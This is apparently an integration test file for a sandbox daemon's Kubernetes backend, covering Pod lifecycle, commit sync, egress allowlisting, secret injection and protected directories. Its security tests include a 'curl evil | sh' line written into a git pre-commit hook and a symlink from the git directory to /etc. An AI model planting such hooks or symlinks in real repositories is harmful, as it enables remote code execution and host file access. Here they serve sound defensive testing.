//! The `kubernetes` backend against the fake API server of
//! `tests/fake-kube` (real kube-rs client, real WebSocket execs, each
//! Pod's commands in a container of namespaces of its own): a sandbox's
//! objects, its workspace streamed in and its commits streamed back, exec
//! with stdin, exit codes and timeouts, a Pod that cannot run, a cluster
//! that does not enforce NetworkPolicies, agentd's restart, and a hostile
//! git directory. `tests/kubernetes-real.sh` runs the same file against a
//! real cluster (`KEYSTONE_KUBECONFIG`).

#[path = "common/kube.rs"]
mod cluster;
mod common;

use std::time::Duration;

use cluster::{Cluster, NS, agentd, agentd_running, agentd_with, sandbox, skip};
use common::{git, wait_for};

#[test]
fn a_sandbox_is_a_pod_whose_commits_come_home_and_that_leaves_nothing_behind() {
    if skip() {
        return;
    }
    let cluster = Cluster::start(true);
    let env = agentd_running(&cluster, serde_json::json!({}));
    let repo = sandbox(&env, "demo", &["--memory", "1024", "--disk", "512"]);
    assert_eq!(env.state("demo"), "running");

    // Its objects, labelled with agentd, the sandbox and its owner.
    let pod = cluster.object("pods", "ks-demo").expect("the Pod");
    let labels = &pod["metadata"]["labels"];
    assert_eq!(labels["keystone.agent/sandbox"], "demo");
    assert_eq!(labels["keystone.agent/agentd"], cluster.instance.as_str());
    assert_eq!(labels["keystone.agent/owner"], "0");
    // A real API server writes quantities in their canonical form.
    let memory = &pod["spec"]["containers"][0]["resources"]["limits"]["memory"];
    assert!(memory == "1024Mi" || memory == "1Gi", "{memory}");
    let policy = cluster
        .object("networkpolicies", "ks-demo")
        .expect("its policy");
    assert_eq!(
        policy["spec"]["policyTypes"],
        serde_json::json!(["Ingress", "Egress"])
    );
    let claim = cluster
        .object("persistentvolumeclaims", "ks-demo")
        .expect("its claim");
    assert_eq!(claim["spec"]["resources"]["requests"]["storage"], "512Mi");

    // The project arrived in the Pod's /workspace; commands run there with
    // their environment, stdin and exit codes.
    let out = env.ok(&[
        "exec",
        "demo",
        "-e",
        "X=42",
        "--",
        "sh",
        "-c",
        "echo $X $PWD $(hostname); git log --format=%s",
    ]);
    assert_eq!(out, "42 /workspace demo\nfirst\n");
    let out = env.ctl_with_stdin(
        &["exec", "demo", "--", "sh", "-c", "tr a-z A-Z; exit 3"],
        b"hello\n",
    );
    assert_eq!(out.status.code(), Some(3));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "HELLO\n");
    let err = env.fails(3, &["exec", "demo", "--timeout", "1", "--", "sleep", "30"]);
    assert!(err.contains("did not finish within 1s"), "{err}");

    // Files in and out with cp (tar through exec, agentctl's checks).
    let file = env.tmp.path().join("notes.txt");
    std::fs::write(&file, "from the host\n").unwrap();
    env.ok(&["cp", file.to_str().unwrap(), "demo:/workspace/notes.txt"]);
    env.ok(&[
        "exec",
        "demo",
        "--",
        "sh",
        "-c",
        "echo from the pod >> notes.txt",
    ]);
    let back = env.tmp.path().join("back.txt");
    env.ok(&["cp", "demo:/workspace/notes.txt", back.to_str().unwrap()]);
    assert_eq!(
        std::fs::read_to_string(&back).unwrap(),
        "from the host\nfrom the pod\n"
    );
    // Worktrees are made in the Pod, one per branch, and listed from there.
    env.ok(&["worktree", "add", "demo", "feature"]);
    let out = env.ok(&[
        "exec",
        "demo",
        "-b",
        "feature",
        "--",
        "sh",
        "-c",
        "pwd; git branch --show-current",
    ]);
    assert_eq!(out, "/workspace/.worktrees/feature\nfeature\n");
    let list: Vec<serde_json::Value> =
        serde_json::from_str(&env.ok(&["worktree", "list", "demo", "--json"])).unwrap();
    let branches: Vec<&str> = list.iter().map(|w| w["branch"].as_str().unwrap()).collect();
    assert_eq!(branches, ["main", "feature"], "{list:?}");
    assert_eq!(list[1]["path"], "/workspace/.worktrees/feature");
    let err = env.fails(4, &["worktree", "add", "demo", "--from=-x", "other"]);
    assert!(err.contains("not a branch or commit"), "{err}");
    env.ok(&["worktree", "remove", "demo", "feature"]);
    let list = env.ok(&["worktree", "list", "demo", "--json"]);
    assert!(!list.contains("feature"), "{list}");

    // A commit in the Pod comes home with a sync.
    env.ok(&[
        "exec",
        "demo",
        "--",
        "git",
        "-c",
        "user.name=Agent",
        "-c",
        "user.email=agent@sandbox",
        "commit",
        "--allow-empty",
        "-q",
        "-m",
        "from the pod",
    ]);
    env.ok(&["sync", "demo"]);
    assert_eq!(
        git(
            &repo,
            &["log", "-1", "--format=%s", "refs/remotes/sandbox/demo/main"]
        )
        .trim(),
        "from the pod"
    );

    // Stop: the Pod and its policy go, the claim (the workspace) stays,
    // and the next start finds the workspace as it was.
    env.ok(&["stop", "demo"]);
    assert!(cluster.object("pods", "ks-demo").is_none());
    assert!(cluster.object("networkpolicies", "ks-demo").is_none());
    assert!(
        cluster
            .object("persistentvolumeclaims", "ks-demo")
            .is_some()
    );
    env.ok(&["start", "demo"]);
    let out = env.ok(&["exec", "demo", "--", "git", "log", "-1", "--format=%s"]);
    assert_eq!(out, "from the pod\n");

    // Destroy leaves nothing on the cluster.
    env.ok(&["stop", "demo"]);
    env.ok(&["destroy", "demo"]);
    for what in [
        "pods",
        "persistentvolumeclaims",
        "networkpolicies",
        "secrets",
    ] {
        assert_eq!(cluster.count(what), 0, "{what} left after destroy");
    }
}

#[test]
fn a_pod_that_cannot_run_fails_the_start_with_its_reason_and_events() {
    if skip() {
        return;
    }
    let cluster = Cluster::start(true);
    let env = agentd(
        &cluster,
        serde_json::json!({"image": "registry.example/does-not-exist:1"}),
    );
    let repo = env.repo("broken");
    env.ok(&["create", "--vcpus", "1", repo.to_str().unwrap()]);
    let err = env.fails(3, &["start", "broken"]);
    assert!(
        err.contains("ErrImagePull") || err.contains("ImagePullBackOff"),
        "{err}"
    );
    assert!(err.contains("does-not-exist"), "the image is named: {err}");
    assert_eq!(env.state("broken"), "error");
    // The Pod that could not run is not left behind.
    wait_for("the Pod to go", Duration::from_secs(10), || {
        cluster.object("pods", "ks-broken").is_none()
    });
}

#[test]
fn a_cluster_that_does_not_enforce_network_policies_is_refused_unless_allowed() {
    if skip() {
        return;
    }
    let cluster = Cluster::start(false);
    if cluster.enforces(false) {
        eprintln!("skipped: this cluster enforces NetworkPolicies");
        return;
    }
    let env = agentd(&cluster, serde_json::json!({}));
    let repo = env.repo("open");
    env.ok(&["create", "--vcpus", "1", repo.to_str().unwrap()]);
    let err = env.fails(3, &["start", "open"]);
    assert!(err.contains("does not enforce NetworkPolicies"), "{err}");
    assert!(err.contains("allow_unenforced_network_policy"), "{err}");
    wait_for("the Pod to go", Duration::from_secs(10), || {
        cluster.object("pods", "ks-open").is_none()
    });
    drop(env);
    let env = agentd(
        &cluster,
        serde_json::json!({"allow_unenforced_network_policy": true}),
    );
    sandbox(&env, "open2", &[]);
    assert_eq!(env.ok(&["exec", "open2", "--", "true"]), "");
}

#[test]
fn agentd_finds_its_pods_again_after_kill_9_and_removes_strays() {
    if skip() {
        return;
    }
    let cluster = Cluster::start(true);
    let mut env = agentd_running(&cluster, serde_json::json!({}));
    sandbox(&env, "keep", &[]);
    cluster::need(&env, "keep", &["curl"]);
    let uid = cluster.object("pods", "ks-keep").unwrap()["metadata"]["uid"].clone();
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(env.agentd_pid()),
        nix::sys::signal::Signal::SIGKILL,
    )
    .unwrap();
    // While it is down, a Pod of this agentd's that no sandbox owns.
    cluster.insert_stray("ks-stray");
    env.start_agentd();
    assert_eq!(env.state("keep"), "running");
    assert_eq!(
        cluster.object("pods", "ks-keep").unwrap()["metadata"]["uid"],
        uid,
        "the same Pod, adopted"
    );
    assert_eq!(
        env.ok(&["exec", "keep", "--", "git", "log", "--format=%s"]),
        "first\n"
    );
    // Its gateway serves again, through a relay that replaced the one the
    // killed agentd had started.
    let ask = "curl -sS --max-time 20 http://example.test/ 2>&1";
    let mut said = String::new();
    wait_for(
        "the gateway after the restart",
        Duration::from_secs(30),
        || {
            let out = env.ctl(&["exec", "keep", "--", "sh", "-c", ask]);
            said = String::from_utf8_lossy(&out.stdout).into_owned();
            said.contains("Keystone Agent refused this connection")
        },
    );
    let relays = env.ok(&[
        "exec",
        "keep",
        "--",
        "sh",
        "-c",
        "grep -l 'keystone-rela[y]' /proc/[0-9]*/cmdline 2>/dev/null | wc -l",
    ]);
    assert_eq!(relays.trim(), "1", "one relay in the Pod");
    wait_for("the stray Pod to go", Duration::from_secs(10), || {
        cluster.object("pods", "ks-stray").is_none()
    });
}

#[test]
fn a_hostile_git_directory_in_the_pod_is_refused_and_the_host_is_unchanged() {
    if skip() {
        return;
    }
    let cluster = Cluster::start(true);
    let env = agentd_running(&cluster, serde_json::json!({}));
    let repo = sandbox(&env, "evil", &[]);
    let before = git(&repo, &["for-each-ref"]);
    // A link out of the git directory, which a careless copy would follow
    // on the host.
    env.ok(&[
        "exec",
        "evil",
        "--",
        "ln",
        "-s",
        "/etc",
        "/workspace/.git/escape",
    ]);
    let err = env.fails(3, &["sync", "evil"]);
    assert!(err.contains("symbolic link"), "{err}");
    assert!(err.contains(".git/escape"), "{err}");
    assert_eq!(git(&repo, &["for-each-ref"]), before);
    let mirror = env.state_dir.join("sandboxes/evil/workspace/.git/escape");
    assert!(
        std::fs::symlink_metadata(&mirror).is_err(),
        "nothing of it on the host"
    );
}

#[test]
fn a_terminal_and_zellij_reach_into_the_pod() {
    use common::term::{Terminal, is_cooked};
    if skip() {
        return;
    }
    let cluster = Cluster::start(true);
    let env = agentd_running(&cluster, serde_json::json!({}));
    assert!(
        env.log().contains("sessions enabled"),
        "no Zellij: run tests/install-zellij.sh"
    );
    sandbox(&env, "tty", &[]);
    let ctl = |args: &str| {
        format!(
            "{} --bus {} {args}",
            common::agentctl().display(),
            env.address
        )
    };
    let long = Duration::from_secs(60);

    // exec --tty: our size, resizes and keys reach the Pod's terminal; its
    // exit code is agentctl's, and our terminal comes back as it was.
    let t = Terminal::new(env.tmp.path(), 100, 30, &[]);
    t.line(&format!(
        "{}; echo code=$?",
        ctl("exec --tty tty -- bash --norc --noprofile")
    ));
    t.line("echo inside-$(tty)-$(stty size | tr ' ' x)-$(hostname)");
    t.wait_screen("the Pod's terminal", long, |s| {
        s.contains("inside-/dev/pts/") && s.contains("-30x100-tty")
    });
    // A resize travels to the Pod a moment later (agentd looks at the
    // terminal's size five times a second): ask until it has arrived.
    t.resize(120, 40);
    common::wait_for("the new size inside", long, || {
        t.line("echo now-$(stty size | tr ' ' x)");
        std::thread::sleep(Duration::from_millis(300));
        t.screen().contains("now-40x120")
    });
    t.line("exit 7");
    t.wait_screen("agentctl to exit", long, |s| s.contains("code=7"));
    assert!(is_cooked(&t.stty("after-exit")), "terminal left raw");

    // attach: Zellij in the Pod, a shell in /workspace; detaching keeps
    // the session, which lists as the sandbox's.
    t.line(&format!(
        "clear; {}; echo attach-exit=$?",
        ctl("attach tty")
    ));
    common::wait_for("a shell in Zellij in the Pod", long, || {
        t.line("echo at-$(pwd)-$((6*7))");
        std::thread::sleep(Duration::from_millis(500));
        t.screen().contains("at-/workspace-42")
    });
    t.keys(&["C-o"]);
    t.keys(&["d"]);
    t.wait_screen("the detach", long, |s| s.contains("attach-exit=0"));
    let sessions = env.ok(&["sessions", "tty", "--json"]);
    assert!(sessions.contains("\"tty-main\""), "{sessions}");
}

#[test]
fn a_dev_server_in_the_pod_gets_its_link_through_port_forward() {
    use common::caddy::Caddy;
    if skip() {
        return;
    }
    let cluster = Cluster::start(true);
    let tmp = tempfile::tempdir().unwrap();
    let caddy = Caddy::start(tmp.path());
    let proxy: serde_json::Value =
        serde_json::from_str(&caddy.agentd_config_auth(false, "none")).unwrap();
    let extra = cluster::may_run(&cluster, serde_json::json!({}));
    let env = agentd_with(&cluster, extra, proxy);
    sandbox(&env, "web", &[]);
    cluster::need(&env, "web", &["python3"]);
    // A dev server on the Pod's own loopback, found by agentd inside the
    // Pod and reached through the API server's port-forward.
    env.ok(&[
        "exec",
        "web",
        "--",
        "sh",
        "-c",
        "echo from-the-pod > who.txt; python3 -m http.server 8123 --bind 127.0.0.1 >/dev/null 2>&1 &",
    ]);
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    loop {
        let (status, body) = caddy.get("web.sandbox.local", "/who.txt");
        if status == 200 {
            assert_eq!(body.trim(), "from-the-pod");
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no link yet: {status} {body}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    let ports: serde_json::Value =
        serde_json::from_str(&env.ok(&["ports", "web", "--json"])).unwrap();
    assert!(ports.to_string().contains("8123"), "{ports}");

    // OpenSSH into the Pod through agentd (docs/ssh.md): a command, and a
    // forward to the same dev server, through the same port-forward.
    let config = common::ssh::config(&env, "web", &tmp.path().join("state"));
    let conf = config.to_str().unwrap();
    let ssh = |args: &[&str], input: &[u8]| {
        let mut all = vec!["-F", conf];
        all.extend_from_slice(args);
        let out = common::ssh::run("ssh", &all, input);
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
    };
    assert_eq!(
        ssh(&["keystone-web", "cat who.txt"], b"").trim(),
        "from-the-pod"
    );
    let got = ssh(
        &["-W", "127.0.0.1:8123", "keystone-web"],
        b"GET /who.txt HTTP/1.0\r\n\r\n",
    );
    assert!(got.contains("from-the-pod"), "{got}");
}

#[test]
fn an_object_of_another_agentd_with_the_sandbox_s_name_is_never_taken_over() {
    if skip() {
        return;
    }
    let cluster = Cluster::start(true);
    let env = agentd_running(&cluster, serde_json::json!({}));
    cluster.insert_pod("ks-taken", "another-agentd");
    let uid = cluster.object("pods", "ks-taken").unwrap()["metadata"]["uid"].clone();
    let repo = env.repo("taken");
    env.ok(&["create", "--vcpus", "1", repo.to_str().unwrap()]);
    let err = env.fails(3, &["start", "taken"]);
    assert!(err.contains("is not this agentd's"), "{err}");
    assert!(err.contains("another-agentd"), "{err}");
    let pod = cluster.object("pods", "ks-taken").expect("still there");
    assert_eq!(pod["metadata"]["uid"], uid);
    assert_eq!(
        pod["metadata"]["labels"]["keystone.agent/agentd"],
        "another-agentd"
    );
    assert!(
        cluster
            .object("persistentvolumeclaims", "ks-taken")
            .is_none()
    );
    assert!(cluster.object("networkpolicies", "ks-taken").is_none());
    if cluster.is_real() {
        let client = cluster.client();
        cluster.rt.block_on(async {
            let _ = kube::Api::<k8s_openapi::api::core::v1::Pod>::namespaced(client, NS)
                .delete("ks-taken", &Default::default())
                .await;
        });
    }
}

#[test]
fn commits_in_the_pod_come_home_by_themselves() {
    if skip() {
        return;
    }
    let cluster = Cluster::start(true);
    let env = agentd_running(&cluster, serde_json::json!({}));
    let repo = sandbox(&env, "auto", &["--sync-mode", "auto-commit"]);
    env.ok(&[
        "exec",
        "auto",
        "--",
        "git",
        "-c",
        "user.name=Agent",
        "-c",
        "user.email=agent@sandbox",
        "commit",
        "--allow-empty",
        "-q",
        "-m",
        "all by itself",
    ]);
    // The Pod's branches are followed: no `agentctl sync`.
    wait_for("the commit on the host", Duration::from_secs(30), || {
        common::host_ref(&repo, "refs/remotes/sandbox/auto/main").is_some_and(|_| {
            git(
                &repo,
                &["log", "-1", "--format=%s", "refs/remotes/sandbox/auto/main"],
            )
            .trim()
                == "all by itself"
        })
    });
    // Nothing changes, nothing is synced (once the sync that wrote the
    // ref has logged its end).
    std::thread::sleep(Duration::from_secs(1));
    let syncs = env.log().matches("synced").count();
    std::thread::sleep(Duration::from_secs(3));
    assert_eq!(env.log().matches("synced").count(), syncs);
}

/// The Pod's only way out is its egress gateway: the proxy variables point
/// at the relay in the Pod, each connection comes out through a
/// port-forward, and agentd decides it by the sandbox's policy and logs
/// it, as for every backend.
#[test]
fn the_pod_reaches_out_only_through_its_gateway() {
    if skip() {
        return;
    }
    let cluster = Cluster::start(true);
    let service = common::origin(std::net::IpAddr::from([127, 0, 0, 1]), "host-service");
    let extra = cluster::may_run(&cluster, serde_json::json!({}));
    let top = serde_json::json!({"egress": {"hosts": {"origin.test": "127.0.0.1"}}});
    let env = agentd_with(&cluster, extra, top);
    sandbox(&env, "net", &[]);
    let sh = |script: &str| {
        let out = env.ctl(&["exec", "net", "--timeout", "60", "--", "sh", "-c", script]);
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned()
                + &String::from_utf8_lossy(&out.stderr),
        )
    };
    let (_, vars) = sh("echo $HTTPS_PROXY $all_proxy");
    assert_eq!(
        vars.trim(),
        "http://127.0.0.1:3128 socks5h://127.0.0.1:3128"
    );
    cluster::need(&env, "net", &["curl"]);
    let curl = |opts: &str, url: &str| sh(&format!("curl -sS --max-time 20 {opts} '{url}' 2>&1"));
    // Not on the allowlist: refused, with the command that opens it (the
    // address range: the name is the host's loopback).
    let url = format!("http://origin.test:{service}/");
    let (_, out) = curl("", &url);
    assert!(
        out.contains(&format!("agentctl egress net allow 127.0.0.1/32:{service}")),
        "{out}"
    );
    env.ok(&["egress", "net", "allow", "origin.test"]);
    env.ok(&["egress", "net", "allow", &format!("127.0.0.1/32:{service}")]);
    // Plain HTTP, CONNECT and SOCKS5, each through its own port-forward.
    for opts in ["", "--proxytunnel", "--proxy socks5h://127.0.0.1:3128"] {
        assert_eq!(
            curl(opts, &url),
            (0, "host-service".to_owned()),
            "curl {opts}"
        );
    }
    // Many at once, all served.
    let (code, out) = sh(&format!(
        "for i in $(seq 24); do curl -sS --max-time 30 '{url}' > /tmp/out.$i 2>&1 & done; wait; cat /tmp/out.*"
    ));
    assert_eq!(
        (code, out.matches("host-service").count()),
        (0, 24),
        "{out}"
    );
    // Each one logged in the sandbox's egress log.
    let log: Vec<serde_json::Value> =
        serde_json::from_str(&env.ok(&["egress", "net", "log", "--json", "-n", "100"])).unwrap();
    let allowed = log
        .iter()
        .filter(|e| e["open"] != true && e["decision"] == "allow" && e["host"] == "origin.test")
        .count();
    assert_eq!(allowed, 27, "{log:?}");
    // The relay's ports are no dev server of the sandbox's.
    let ports = env.ok(&["ports", "net", "--json"]);
    assert!(
        !ports.contains("3128") && !ports.contains("3129"),
        "{ports}"
    );
    // Without a network, nothing: no variables, no relay.
    env.ok(&["stop", "net"]);
    sandbox(&env, "nonet", &["--network", "none"]);
    let out = env.ok(&[
        "exec",
        "nonet",
        "--",
        "sh",
        "-c",
        "echo \"[$HTTPS_PROXY]\"; curl -sS --max-time 10 --proxy http://127.0.0.1:3128 http://origin.test/ 2>&1; echo \"exit $?\"",
    ]);
    assert!(out.starts_with("[]\n") && !out.contains("exit 0"), "{out}");
}

/// A secret works for a Pod as for every sandbox: its placeholder inside,
/// its value put in by the gateway, the sandbox's CA copied into the Pod
/// (at once when the secret is set while it runs, and at each start).
#[test]
fn a_secret_reaches_its_host_from_the_pod_and_never_the_pod() {
    use common::tls::{Origin, tls};
    if skip() {
        return;
    }
    let cluster = Cluster::start(true);
    let mut env = common::Env::bus_only();
    let certs = tls(env.tmp.path(), &["api.secret.test"]);
    env.agentd_env
        .push(("SSL_CERT_FILE".into(), Some(certs.ca.display().to_string())));
    let origin = Origin::start(
        env.tmp.path(),
        "origin.py",
        include_str!("secrets/origin.py"),
        &certs,
    );
    let extra = cluster::may_run(&cluster, serde_json::json!({}));
    let top = serde_json::json!({"egress": {"hosts": {"api.secret.test": "127.0.0.1"}}});
    let env = cluster::agentd_in(env, &cluster, extra, top);
    sandbox(&env, "sec", &[]);
    cluster::need(&env, "sec", &["curl"]);
    env.ok(&[
        "egress",
        "sec",
        "allow",
        &format!("127.0.0.1/32:{}", origin.port),
    ]);
    let value = format!("sk-test-{}", uuid::Uuid::new_v4().simple());
    env.set_secret(
        "sec",
        "API_KEY",
        "api.secret.test",
        "x-api-key",
        value.as_bytes(),
    );
    let ask = format!(
        "curl -sS --max-time 20 -H \"x-api-key: $API_KEY\" https://api.secret.test:{}/v1/messages",
        origin.port
    );
    let masked = format!("echo {}", "*".repeat(value.len()));
    // The CA reaches the running Pod in the background.
    let mut answer = String::new();
    wait_for("the CA in the Pod", Duration::from_secs(30), || {
        let out = env.ctl(&["exec", "sec", "--", "sh", "-c", &ask]);
        answer = String::from_utf8_lossy(&out.stdout).into_owned();
        out.status.success()
    });
    assert_eq!(answer, masked);
    let got = origin.requests();
    assert_eq!(got.last().unwrap()["x-api-key"], value.as_str(), "{got:?}");
    let placeholder = env.ok(&["exec", "sec", "--", "sh", "-c", "printf %s \"$API_KEY\""]);
    assert!(
        placeholder.starts_with("keystone-placeholder-"),
        "{placeholder}"
    );
    // After a restart, from the start on.
    env.ok(&["stop", "sec"]);
    env.ok(&["start", "sec"]);
    assert_eq!(env.ok(&["exec", "sec", "--", "sh", "-c", &ask]), masked);
    assert_eq!(
        origin.requests().last().unwrap()["x-api-key"],
        value.as_str()
    );
}

/// The agent toolbox reaches a Pod as the tools do, over exec and without
/// a registry: each package once onto the claim, under its version, not
/// copied again at the next start, replaced when the version changes.
#[test]
fn the_agent_toolbox_is_copied_onto_the_claim_once_per_version() {
    if skip() {
        return;
    }
    let cluster = Cluster::start(true);
    // A toolbox cache of one tiny package per version.
    let cache = tempfile::tempdir().unwrap();
    for version in ["1.0.0", "2.0.0"] {
        let dir = cache.path().join(format!("claude-{version}"));
        std::fs::create_dir_all(&dir).unwrap();
        let bin = dir.join("claude");
        std::fs::write(&bin, format!("#!/bin/sh\necho \"claude {version} $*\"\n")).unwrap();
        std::fs::set_permissions(&bin, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
    }
    let toolbox = |version: &str| {
        serde_json::json!({"toolbox": {
            "agents": ["claude"],
            "versions": {"claude": version},
            "download": false,
            "cache_dir": cache.path(),
        }})
    };
    let extra = cluster::may_run(&cluster, serde_json::json!({"toolbox": true}));
    let mut env = agentd_with(&cluster, extra, toolbox("1.0.0"));
    sandbox(&env, "tb", &[]);
    // On PATH, through the launcher agentd writes.
    assert_eq!(
        env.ok(&["exec", "tb", "--", "claude", "--version"]),
        "claude 1.0.0 --version\n"
    );
    assert_eq!(env.status("tb")["agents"], "claude 1.0.0");
    // Once per version: a second start finds it on the claim.
    env.ok(&[
        "exec",
        "tb",
        "--",
        "touch",
        "/run/keystone/agents/claude-1.0.0/kept",
    ]);
    env.ok(&["stop", "tb"]);
    env.ok(&["start", "tb"]);
    env.ok(&[
        "exec",
        "tb",
        "--",
        "test",
        "-e",
        "/run/keystone/agents/claude-1.0.0/kept",
    ]);
    // A new version replaces the old one.
    env.ok(&["stop", "tb"]);
    env.term_agentd();
    let path = env.config.clone().unwrap();
    let mut config: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    config["toolbox"] = toolbox("2.0.0")["toolbox"].clone();
    std::fs::write(&path, config.to_string()).unwrap();
    env.start_agentd();
    env.ok(&["start", "tb"]);
    assert_eq!(env.ok(&["exec", "tb", "--", "claude"]), "claude 2.0.0 \n");
    assert_eq!(
        env.ok(&["exec", "tb", "--", "ls", "-A", "/run/keystone/agents"]),
        "claude-2.0.0\n"
    );
}

/// `sync --from-host` brings the host's branches into the Pod as
/// `host/<branch>`, with their commits, and nothing else of the Pod's
/// changes; a stopped sandbox is refused (its branches are in its Pod).
#[test]
fn the_host_s_branches_reach_the_pod_with_sync_from_host() {
    if skip() {
        return;
    }
    let cluster = Cluster::start(true);
    let env = agentd_running(&cluster, serde_json::json!({}));
    let repo = sandbox(&env, "fh", &[]);
    let sh = |script: &str| env.ok(&["exec", "fh", "--", "sh", "-c", script]);
    sh(
        "echo wip > wip.txt; git -c user.name=A -c user.email=a@example.com commit -q --allow-empty -m pod-work",
    );
    let before = sh("git rev-parse HEAD; git status --porcelain; git branch --list");
    std::fs::write(repo.join("new.txt"), "n\n").unwrap();
    git(&repo, &["add", "new.txt"]);
    common::commit(&repo, "host work");
    git(&repo, &["branch", "release"]);
    let out = env.ok(&["sync", "fh", "--from-host"]);
    assert!(out.contains("into sandbox 'fh'"), "{out}");
    for branch in ["main", "release"] {
        assert_eq!(
            sh(&format!("git rev-parse host/{branch}")),
            git(&repo, &["rev-parse", branch])
        );
    }
    assert_eq!(sh("git show -s --format=%s host/main"), "host work\n");
    assert_eq!(sh("git cat-file -p host/main:new.txt"), "n\n");
    // The Pod's own branches and files are as they were.
    assert_eq!(
        sh("git rev-parse HEAD; git status --porcelain; git branch --list"),
        before
    );
    // A branch gone from the host goes from the Pod's host/ too.
    git(&repo, &["branch", "-D", "release"]);
    env.ok(&["sync", "fh", "--from-host"]);
    let left = sh("git for-each-ref --format='%(refname)' refs/remotes/host/");
    assert!(
        left.contains("host/main") && !left.contains("host/release"),
        "{left}"
    );
    // The Pod's work still comes home afterwards.
    env.ok(&["sync", "fh"]);
    assert_eq!(
        git(&repo, &["show", "-s", "--format=%s", "sandbox/fh/main"]),
        "pod-work\n"
    );
    env.ok(&["stop", "fh"]);
    let refused = env.ctl(&["sync", "fh", "--from-host"]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&refused.stderr).contains("start it first"),
        "{}",
        String::from_utf8_lossy(&refused.stderr)
    );
}

/// `auto-idle`: once the Pod's work has been still for the idle time, it
/// is recorded in the Pod as a snapshot and comes home as `wip/<branch>`;
/// the agent's branch, index and files are as they were.
#[test]
fn uncommitted_work_in_the_pod_comes_home_as_a_snapshot_once_idle() {
    if skip() {
        return;
    }
    let cluster = Cluster::start(true);
    let env = agentd_running(&cluster, serde_json::json!({}));
    let repo = sandbox(&env, "idle", &[]);
    env.ok(&[
        "set",
        "idle",
        "--sync-mode",
        "auto-idle",
        "--sync-idle-seconds",
        "2",
    ]);
    let sh = |script: &str| env.ok(&["exec", "idle", "--", "sh", "-c", script]);
    sh("echo draft > notes.txt");
    let state = "git status --porcelain; git rev-parse HEAD; git diff --cached --stat";
    let before = sh(state);
    let wip = "refs/remotes/sandbox/idle/wip/main";
    wait_for("the snapshot on the host", Duration::from_secs(30), || {
        common::host_ref(&repo, wip).is_some()
    });
    assert_eq!(
        git(&repo, &["show", &format!("{wip}:notes.txt")]),
        "draft\n"
    );
    assert_eq!(
        git(&repo, &["log", "-1", "--format=%an %P", wip])
            .split(' ')
            .next(),
        Some("Keystone")
    );
    assert_eq!(
        git(&repo, &["rev-parse", &format!("{wip}^")]),
        sh("git rev-parse HEAD"),
        "its parent is the agent's HEAD"
    );
    assert_eq!(sh(state), before);
    // More work, still again: a new snapshot.
    sh("echo second > notes.txt");
    wait_for("the second snapshot", Duration::from_secs(30), || {
        common::host_ref(&repo, wip).is_some()
            && git(&repo, &["show", &format!("{wip}:notes.txt")]) == "second\n"
    });
}

/// From the second start, when the workspace is on the claim, the Pod
/// mounts the protected directories read-only (the guest's own mount,
/// advisory: the sync's check is the guard); a symlink the agent put on
/// one's way does not keep its sandbox from starting.
#[test]
fn protected_directories_are_read_only_in_the_pod_from_its_second_start() {
    if skip() {
        return;
    }
    let cluster = Cluster::start(true);
    let env = agentd_running(&cluster, serde_json::json!({}));
    sandbox(&env, "guard", &[]);
    let read_only = |what: &str| -> Vec<String> {
        let pod = cluster.object("pods", "ks-guard").expect(what);
        pod["spec"]["containers"][0]["volumeMounts"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|m| m["readOnly"] == true)
            .map(|m| m["mountPath"].as_str().unwrap().to_owned())
            .collect()
    };
    // The first start seeds the claim, and says so on it.
    assert_eq!(read_only("the first Pod"), Vec::<String>::new());
    let claim = cluster
        .object("persistentvolumeclaims", "ks-guard")
        .unwrap();
    assert_eq!(
        claim["metadata"]["annotations"]["keystone-agent/seeded"],
        "true"
    );

    // A symlink out of the claim where a protected directory goes: the
    // kubelet would refuse the Pod; it starts without the mounts.
    env.sh("guard", "ln -s /etc .husky");
    env.ok(&["stop", "guard"]);
    env.ok(&["start", "guard"]);
    assert_eq!(env.state("guard"), "running");
    assert_eq!(read_only("the Pod started again"), Vec::<String>::new());
    assert!(
        env.log().contains("starting it without them"),
        "{}",
        env.log()
    );

    env.sh("guard", "rm .husky");
    env.ok(&["stop", "guard"]);
    env.ok(&["start", "guard"]);
    let mut ro = read_only("the third Pod");
    ro.sort();
    assert_eq!(
        ro,
        [
            "/workspace/.git/hooks",
            "/workspace/.github/workflows",
            "/workspace/.husky"
        ]
    );
    for write in [
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "touch .husky/pre-commit",
        "mkdir -p .github/workflows/x",
        "mv .husky .husky-gone",
    ] {
        let (code, out) = env.inside("guard", write);
        assert_ne!(code, 0, "{write} succeeded inside: {out}");
    }
    // The rest of the workspace is the agent's as before.
    env.sh(
        "guard",
        "echo x > notes.txt && git add notes.txt && git -c user.name=A -c user.email=a@b commit -q -m notes",
    );
}
